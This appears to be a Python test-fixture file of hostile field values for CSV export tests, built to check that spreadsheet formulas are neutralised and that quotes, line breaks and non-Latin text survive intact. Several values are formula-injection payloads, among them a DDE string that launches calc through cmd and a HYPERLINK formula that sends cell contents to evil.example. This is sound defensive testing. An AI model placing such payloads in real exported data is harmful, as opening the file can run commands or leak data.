"""Values a spreadsheet must never run, and text a CSV must carry intact."""

HOSTILE_ARTICLE = (
    "Tax rises were announced on Monday.\n\n"
    '"Taxes rose by 40 percent last year," the finance minister Jane Roe said.\n\n'
    'Володимир Зеленський said: "We will rebuild every city."'
)
HOSTILE_TITLE = 'Breaking: "quotes", commas,\nand a newline'
HOSTILE_PUBLISHER = "\t=1+2"
HOSTILE_URL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CONTENT = '=HYPERLINK("http://evil.example/?x="&A1,"Click me") said "he", twice'
HOSTILE_RATIONALE = '-1 for "accuracy", see:\n\n=SUM(1,2)\r\nafter a CR LF; 日本語, عربى'
HOSTILE_SPEAKER = "+Ευάγγελος \"Βαγγέλης\", Jr."
